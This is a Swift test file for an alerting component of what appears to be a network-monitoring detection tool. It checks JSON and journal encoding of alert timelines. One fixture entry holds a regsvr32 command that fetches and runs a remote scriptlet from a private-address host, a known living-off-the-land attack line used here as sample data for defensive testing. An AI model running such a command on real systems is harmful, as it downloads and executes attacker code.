import Enrichment
import EventDecoding
import Foundation
import Testing
import WFPCore

@testable import Alerting

private typealias F = AlertingFixtures

private func timelineAlert() -> Alert {
    var alert = F.alert()
    let start = Timestamp(secondsSinceEpoch: F.baseSeconds - 1, nanoseconds: 250_000_000)
    alert.timeline = Timeline(entries: [
        TimelineEntry(
            time: start, kind: .processStart, pid: 9384, image: "regsvr32.exe",
            text: #""C:\windows\system32\regsvr32.exe" /s /i:http://10.10.10.5:8444/launcher.sct"#),
        TimelineEntry(
            time: start + .milliseconds(500), kind: .connection, pid: 9384, image: "regsvr32.exe",
            text: "→ 10.10.10.5:8444/tcp (allowed)"),
    ])
    return alert
}

@Test func alertJSON_writesTimelineLast_oneObjectPerEntryInOrder() throws {
    let line = AlertJSON.encode(timelineAlert())

    #expect(line.hasSuffix(#"{"time":"2020-08-07T18:32:08.750Z","kind":"connection","pid":9384,"#
        + #""image":"regsvr32.exe","text":"→ 10.10.10.5:8444/tcp (allowed)"}]}"#))
    let json = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
    let entries = try #require(json["timeline"] as? [[String: Any]])
    #expect(entries.count == 2)
    #expect(entries[0]["kind"] as? String == "process_start")
    #expect(entries[0]["time"] as? String == "2020-08-07T18:32:08.250Z")
    #expect((entries[0]["text"] as? String)?.contains("launcher.sct") == true)
    #expect(json["beacon"] is NSNull)
}

@Test func alertJSON_isByteIdentical_forEqualAlertsWithTimeline() {
    #expect(AlertJSON.encode(timelineAlert()) == AlertJSON.encode(timelineAlert()))
}

@Test func journalSink_writesTimelineField_oneLinePerEntry() throws {
    let fields = JournalSink.fields(of: timelineAlert())
    let timeline = try #require(fields.first { $0.0 == "WFPWATCH_TIMELINE" }?.1)
    let lines = timeline.split(separator: "\n")

    #expect(lines.count == 2)
    #expect(lines[0].hasPrefix("2020-08-07T18:32:08.250Z  process_start  9384    regsvr32.exe      \"C:"))
    #expect(lines[1].hasSuffix("→ 10.10.10.5:8444/tcp (allowed)"))
    #expect(!JournalSink.fields(of: F.alert()).contains { $0.0 == "WFPWATCH_TIMELINE" })
}
